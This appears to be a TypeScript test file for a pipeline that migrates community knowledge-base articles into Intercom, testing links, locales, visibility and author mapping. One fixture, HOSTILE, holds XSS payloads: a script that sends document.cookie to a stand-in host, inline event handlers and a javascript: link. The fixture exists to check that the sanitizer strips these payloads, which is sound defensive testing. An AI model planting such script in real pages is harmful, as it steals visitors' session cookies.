import { expect } from 'chai';
import { plannedRequests } from '../../../pipeline/transform/planned-requests.ts';
import { transformArticle, type TransformedArticle } from '../../../pipeline/transform/transform-article.ts';
import { loadIntercomSchemas } from '../../../schemas/intercom/load-intercom-schemas.ts';
import { fixtureLookups, kbArticle } from './fixtures.ts';
import { fixtureMapping } from './fixture-mapping.ts';

const validatorFor = loadIntercomSchemas();
const expectValid = (result: TransformedArticle) => {
  const requests = plannedRequests(result);
  for (const request of requests) {
    const validate = validatorFor(request.schema);
    expect(validate(request.payload), JSON.stringify(validate.errors)).to.equal(true);
  }
  return requests;
};
const rules = (result: TransformedArticle) => result.findings.map((f) => `${f.rule}/${f.action}`);

const HOSTILE = '<p>Embed the status widget.</p><script type="text/javascript">window.__track=function(){new Image().src="https://evil.example/t?"+document.cookie};__track()</script>'
  + '<div onclick="__track()"><img src="/t5/image/serverpage/image-id/0iBROKEN/image-size/large?v=v2&px=999" onerror="this.onerror=null;__track()"></div>'
  + '<svg onload="alert(1)"><circle r="4"></circle></svg><p style="color:red" onmouseover="x()">Keep this text.</p><a href="javascript:alert(1)">bad link</a>';

describe('transformArticle', () => {
  const context = { mapping: fixtureMapping(), lookups: fixtureLookups() };

  it('writes a public article with its image hosted, under its board\'s section, by its author\'s admin', () => {
    const result = transformArticle(kbArticle(), context);
    expect(result.target).to.equal('article');
    expect(result.article).to.deep.equal({
      title: 'Setting up Chicken', description: 'Steps.', author_id: 7100000, state: 'published', parent_id: 4201, parent_type: 'section',
      body: '<p>Steps.</p><p><img src="https://cdn.proseware.example/kb/101iCFCF597CACF90411.png" alt="step" /></p>'
        + '<ul><li><a href="https://community.proseware.example/t5/Billing-Payments-Knowledge-Base/Warranty-coverage-explained/ta-p/1003">Warranty</a></li></ul>',
    });
    expect(result.pendingLinks).to.deep.equal([{ articleId: '1003', href: 'https://community.proseware.example/t5/Billing-Payments-Knowledge-Base/Warranty-coverage-explained/ta-p/1003' }]);
    expect(rules(result)).to.deep.equal(['article-link-pending/second-pass']);
    expect(expectValid(result).map((r) => r.schema)).to.deep.equal(['create-article']);
  });

  it('rewrites links to migrated articles on a second pass, keeping anchors', () => {
    const lookups = fixtureLookups({ articleByKhorosId: { 1003: { id: '91', url: 'https://help.proseware.example/en/articles/91-warranty' } } });
    const body = '<a href="https://community.proseware.example/t5/Billing/Warranty/ta-p/1003#coverage">w</a><a href="/t5/Billing/x/ta-p/1003">rel</a><a href="https://elsewhere.example/t5/b/s/ta-p/1003">other host</a>';
    const result = transformArticle(kbArticle({ body }), { ...context, lookups });
    expect(result.article!.body).to.equal('<a href="https://help.proseware.example/en/articles/91-warranty#coverage">w</a><a href="https://help.proseware.example/en/articles/91-warranty">rel</a><a href="https://elsewhere.example/t5/b/s/ta-p/1003">other host</a>');
    expect(result.pendingLinks).to.deep.equal([]);
  });

  it('removes scripts, event handlers and SVG, keeps the text, and records unknown images', () => {
    const result = transformArticle(kbArticle({ body: HOSTILE }), context);
    const body = result.article!.body!;
    expect(body).to.not.match(/script|onerror|onclick|onload|onmouseover|svg|style=|javascript|__track|evil/i);
    expect(body).to.contain('Embed the status widget.').and.to.contain('Keep this text.').and.to.contain('bad link');
    expect(body).to.contain('<img src="/t5/image/serverpage/image-id/0iBROKEN/image-size/large?v=v2&amp;px=999" />');
    expect(result.unresolvedImages).to.deep.equal([{ imageId: '0iBROKEN', src: '/t5/image/serverpage/image-id/0iBROKEN/image-size/large?v=v2&px=999' }]);
    expect(rules(result)).to.deep.equal(['unsafe-html/sanitize', 'image-unresolved/leave-and-record']);
    expectValid(result);
  });

  it('makes an agent-only article an internal article owned and written by its admin, in its locale', () => {
    const result = transformArticle(kbArticle({ visibility: 'agent-only', language: 'de' }), context);
    expect(result.article).to.equal(null);
    expect(result.internalArticle).to.deep.include({ title: 'Setting up Chicken', author_id: 7100000, owner_id: 7100000, locale: 'de' });
    expect(expectValid(result).map((r) => r.schema)).to.deep.equal(['create-internal-article']);
  });

  it('treats a visibility the map does not list as the most restrictive (internal), recording it', () => {
    const result = transformArticle(kbArticle({ visibility: 'moderators' }), context);
    expect(result.target).to.equal('internal_article');
    expect(rules(result)).to.include('article-visibility-unknown/internal-article');
  });

  it('keeps the language as the locale: another locale goes to translated_content beside a draft default', () => {
    const result = transformArticle(kbArticle({ language: 'de', subject: 'Bestellung verfolgen' }), context);
    expect(result.locale).to.equal('de');
    expect(result.article).to.deep.include({ title: 'Bestellung verfolgen', author_id: 7100000, state: 'draft', parent_id: 4201 });
    expect(result.article!.translated_content!.de).to.deep.include({ title: 'Bestellung verfolgen', state: 'published', author_id: 7100000 });
    expect(result.article).to.not.have.property('body');
    expectValid(result);
  });

  it('falls back to the default locale for a language the help center has not enabled or Intercom lacks', () => {
    const hebrew = transformArticle(kbArticle({ language: 'he' }), context);
    expect(hebrew.locale).to.equal('en');
    expect(hebrew.findings.find((f) => f.rule === 'locale-unmapped')!.detail).to.equal('language "he" is not enabled on the help center');
    const klingon = transformArticle(kbArticle({ language: 'tlh' }), context);
    expect(klingon.findings.find((f) => f.rule === 'locale-unmapped')!.detail).to.equal('language "tlh" has no Intercom locale');
    expectValid(klingon);
  });

  it('records registered articles widened to the help center, unknown authors, and boards without a section', () => {
    const result = transformArticle(kbArticle({ visibility: 'registered', author: { id: '5008' }, board: { id: 'new-board' } }), context);
    expect(result.article).to.deep.include({ author_id: 7200000 });
    expect(result.article).to.not.have.property('parent_id');
    expect(rules(result)).to.include.members(['article-audience-widened/publish-as-mapped', 'admin-missing/fallback-admin', 'article-parent-unresolved/stand-alone']);
    expectValid(result);
  });

  it('queues an article whose visibility the map skips, and one that cannot get a numeric author', () => {
    const mapping = fixtureMapping();
    mapping.objects.kb_articles.visibility['agent-only'] = 'skip';
    const skipped = transformArticle(kbArticle({ visibility: 'agent-only' }), { ...context, mapping });
    expect(skipped).to.deep.include({ article: null, internalArticle: null, queue: { rule: 'skipped-by-map', action: 'skip', reason: 'visibility "agent-only" is skipped by the map' } });
    const noAdmin = transformArticle(kbArticle({ author: undefined }), { ...context, lookups: fixtureLookups({ fallbackAdminId: 'migration-bot' }) });
    expect(noAdmin.queue).to.deep.include({ rule: 'admin-missing', action: 'queue' });
  });
});
